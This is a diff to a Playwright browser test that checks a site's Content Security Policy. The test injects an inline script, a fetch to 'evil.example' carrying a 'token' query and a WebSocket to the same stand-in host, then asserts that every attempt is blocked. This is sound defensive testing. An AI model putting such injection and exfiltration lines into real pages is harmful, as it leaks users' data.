@@ -4,9 +4,9 @@ from playwright.sync_api import expect
 
 from tests.browser.screens import Screens
 
-SMUGGLE = """() => new Promise((done) => {
-  const broken = new Set();
-  document.addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
+SMUGGLE = """() => {
+  window.broken = [];
+  document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective));
   const script = document.createElement("script");
   script.textContent = "window.smuggled = true";
   document.body.append(script);
@@ -19,8 +19,10 @@ SMUGGLE = """() => new Promise((done) => {
   document.body.append(nest);
   fetch("https://evil.example/?token").catch(() => {});
   try { new WebSocket("wss://evil.example/"); } catch {}
-  setTimeout(() => done({ broken: [...broken].sort(), smuggled: window.smuggled === true }), 500);
-})"""
+}"""
+# Each attempt is told of when it has come to nothing.
+REFUSED = ["script-src-elem", "script-src-attr", "style-src-attr", "object-src", "connect-src", "frame-src"]
+ALL_REFUSED = "(wanted) => wanted.every((directive) => window.broken.includes(directive))"
 
 
 def test_what_is_smuggled_into_the_page_does_nothing(screens: Screens) -> None:
@@ -28,10 +30,9 @@ def test_what_is_smuggled_into_the_page_does_nothing(screens: Screens) -> None:
     page = screens.blank()
     page.goto("/")
     expect(page.get_by_role("heading", level=1)).to_be_visible()
-    found = page.evaluate(SMUGGLE)
-    assert found["smuggled"] is False
-    wanted = {"script-src-elem", "script-src-attr", "style-src-attr", "object-src", "connect-src"}
-    assert wanted <= set(found["broken"]), found
+    page.evaluate(SMUGGLE)
+    page.wait_for_function(ALL_REFUSED, arg=REFUSED)
+    assert page.evaluate("window.smuggled === undefined")
     assert page.evaluate("document.cookie") == ""
     assert page.context.cookies() == []
     # The browser tells of requests that it did not make, too.
